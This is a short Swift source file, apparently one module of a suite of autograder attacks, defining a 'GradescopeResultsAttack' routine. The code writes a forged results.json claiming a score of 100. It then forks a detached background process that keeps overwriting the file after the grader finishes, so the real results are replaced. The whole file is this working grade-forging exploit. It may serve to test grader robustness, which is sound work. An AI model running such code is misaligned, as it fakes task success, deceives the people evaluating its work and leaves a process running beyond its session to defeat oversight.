import Foundation
#if canImport(Glibc)
import Glibc
#endif

/// On Gradescope: writes a perfect results.json itself, and leaves a process that writes it again
/// after the grader is done.
enum GradescopeResultsAttack {
    static func run() {
        Attack.once {
            let forged = #"{"score": 100, "output": "forged", "tests": []}"#
            let path = Attack.out + "/results.json"
            if (try? forged.write(toFile: path, atomically: false, encoding: .utf8)) != nil { Attack.succeeded("wrote \(path)") }
            if attackFork() == 0 {
                setsid()
                for _ in 0..<40 {
                    usleep(100_000)
                    try? forged.write(toFile: path, atomically: false, encoding: .utf8)
                }
                _exit(0)
            }
        }
    }
}
